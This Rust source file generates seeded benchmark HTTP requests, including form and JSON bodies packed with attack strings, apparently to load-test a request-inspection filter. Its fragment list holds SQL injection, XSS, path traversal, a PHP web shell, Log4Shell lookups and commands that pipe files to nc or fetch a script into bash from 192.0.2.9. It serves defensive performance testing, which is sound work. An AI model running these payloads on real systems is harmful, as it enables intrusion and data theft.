//! Requests that cost the most: made here, by a seed, so that nothing of them is kept in the tree.
//!
//!     hostile        a form with one field of 8 KiB, all attacks
//!     large          1 MiB of JSON as an API's clients send it
//!     large-hostile  1 MiB of JSON, each value an attack
//!     short          128 KiB of JSON, of values as short and as different as can be
//!
//! Invariant: the same bytes in each run. Non-goal: being caught by every rule; the fragments are
//! there for the work that they make.

/// Bytes of the field, and of the bodies. More names than the short one has are refused.
const FIELD: usize = 8 << 10;
const BODY: usize = 1 << 20;
const SHORT: usize = 128 << 10;

/// What attacks are made of.
const FRAGMENTS: [&str; 24] = [
    "' or 1=1 -- ",
    "1 union select name, password from users ",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "..%252f..%252fwindows/system.ini",
    "; cat /etc/hosts | nc 192.0.2.9 4444",
    "$(curl http://192.0.2.9/x.sh | bash)",
    "`wget -q -O - http://192.0.2.9`",
    "${jndi:ldap://192.0.2.9/a}",
    "<?php system($_GET['c']); ?>",
    "require('child_process').exec('id')",
    "{{7*7}}${T(java.lang.Runtime).getRuntime()}",
    "\"; sleep(10); --",
    "%3Csvg%2Fonload%3Dalert%281%29%3E",
    "&#x6a;avascript:alert(1)",
    "\\u003cscript\\u003e",
    "c2VsZWN0ICogZnJvbSB1c2Vycw==",
    "powershell -enc ZQBjAGgAbwA=",
    "/*!50000union*/ /*!select*/",
    "c'a't /e\\t\\c/p''asswd",
    "benchmark(5000000, md5(1))",
    "\r\nSet-Cookie: a=b",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
];

const WORDS: [&str; 24] = [
    "amber", "basket", "candle", "daughter", "evening", "flower", "garden", "harbour", "island",
    "journey", "kitchen", "lemon", "market", "north", "orange", "pepper", "quiet", "river",
    "silver", "table", "under", "valley", "winter", "yellow",
];

/// The message of a kind, as on the wire; `None` if there is no such kind.
pub(crate) fn request(kind: &str) -> Option<Vec<u8>> {
    let mut draw = Draw(7);
    let (content_type, body) = match kind {
        "hostile" => ("application/x-www-form-urlencoded", form(&mut draw)),
        "large" => ("application/json", list(&mut draw, BODY, item)),
        "large-hostile" => ("application/json", list(&mut draw, BODY, attack)),
        "short" => ("application/json", list(&mut draw, SHORT, short)),
        _ => return None,
    };
    let head = format!(
        "POST /v1/orders HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: orders/1.0\r\n\
         Accept: application/json\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    Some([head.into_bytes(), body].concat())
}

/// Choices out of one seed.
struct Draw(u64);

impl Draw {
    fn below(&mut self, count: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005);
        self.0 = self.0.wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % count
    }

    fn of(&mut self, options: &[&'static str]) -> &'static str {
        options[self.below(options.len())]
    }
}

fn form(draw: &mut Draw) -> Vec<u8> {
    let mut value = String::new();
    while value.len() < FIELD {
        value.push_str(draw.of(&FRAGMENTS));
    }
    let encoded = value.bytes().take(FIELD).flat_map(|byte| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => vec![byte],
        _ => format!("%{byte:02X}").into_bytes(),
    });
    b"comment=".iter().copied().chain(encoded).collect()
}

fn list(draw: &mut Draw, length: usize, item: fn(&mut Draw) -> String) -> Vec<u8> {
    let mut body = String::from("[");
    while body.len() < length {
        body.push_str(&item(draw));
        body.push(',');
    }
    body.push_str("0]");
    body.into_bytes()
}

fn item(draw: &mut Draw) -> String {
    let note: Vec<_> = (0..60).map(|_| draw.of(&WORDS)).collect();
    format!(
        r#"{{"id":{},"name":"{} {}","price":{}.{},"gift":{},"note":"{}."}}"#,
        draw.below(1_000_000),
        draw.of(&WORDS),
        draw.of(&WORDS),
        draw.below(1000),
        draw.below(100),
        draw.below(2) == 0,
        note.join(" "),
    )
}

fn attack(draw: &mut Draw) -> String {
    let text = [draw.of(&FRAGMENTS), draw.of(&FRAGMENTS)].concat();
    let escaped = text.chars().map(|char| match char {
        '"' | '\\' => format!("\\{char}"),
        '\r' => "\\r".to_owned(),
        '\n' => "\\n".to_owned(),
        _ => char.to_string(),
    });
    format!("\"{}\"", escaped.collect::<String>())
}

fn short(draw: &mut Draw) -> String {
    let bytes = (0..1 + draw.below(6)).map(|_| match draw.below(0x5f) as u8 + b' ' {
        b'"' | b'\\' => '/',
        byte => char::from(byte),
    });
    format!("\"{}\"", bytes.collect::<String>())
}
